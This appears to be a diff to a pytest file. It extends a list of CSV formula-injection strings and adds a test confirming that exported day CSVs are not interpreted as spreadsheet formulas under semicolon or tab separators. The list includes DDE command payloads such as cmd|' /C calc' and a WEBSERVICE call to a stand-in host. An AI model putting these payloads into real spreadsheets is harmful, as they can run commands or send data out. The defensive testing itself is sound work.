@@ -24,7 +24,8 @@ HOSTILE = [
     "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=WEBSERVICE("https://evil.test")',
     "={1;2}+1", "==1", "=-1", "'=1+1", '"=1+1"', '","=1+1', '"\r\n=1+1,', ";=1+1", "\uff1d1+1",
     "\uff0b1+1", "\u22121+1", "\ufeff=1+1", "\u200b=1+1", 'say "no", twice', "a,b;c\td",
-    "two\nlines", "\uff0d1+1", "\uff201",
+    "two\nlines", "\uff0d1+1", "\uff201", "pump;=1+1", "a; =1+1", 'b;"=1+1"', "c;+1+1,=1",
+    "d;@SUM(1)",
 ]  # fmt: skip
 RUN = (*"=+-@\t\r\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 NUMERIC = ("shift", "value", "printed", "standard_uncertainty", "coverage", "entry")
@@ -126,6 +127,23 @@ def test_no_hostile_text_of_a_day_is_run_by_a_spreadsheet_and_no_number_changes(
     place = header.index("value")
     numbers = [row[place] for row in shown if len(row) > place and row[place][2] == "-0.35"]
     assert numbers == [("", "float", "-0.35")] * len(HOSTILE)
+
+
+@pytest.mark.usefixtures("program")
+@pytest.mark.parametrize("parted", ["59", "9", "59/9/44"], ids=["semicolon", "tab", "any"])
+def test_nothing_runs_where_columns_are_parted_as_other_languages_set_it(bench, tmp_path, parted):
+    """A-41: -0.35 is no formula."""
+    path = tmp_path / "day.csv"
+    path.write_bytes(day_csv(bench, HOSTILE).encode())
+    assert formulas(path, parted) == []
+    with path.open("w", newline="", encoding="utf-8") as file:
+        csv.writer(file).writerows([["x", text] for text in HOSTILE])
+    assert len(formulas(path, parted)) > 2  # so that the line above can fail
+
+
+def formulas(path, parted):
+    rows = opened(path, f"{parted},34,76,1")
+    return [formula for row in rows for formula, *_ in row if formula]
 
 
 @pytest.mark.usefixtures("program")
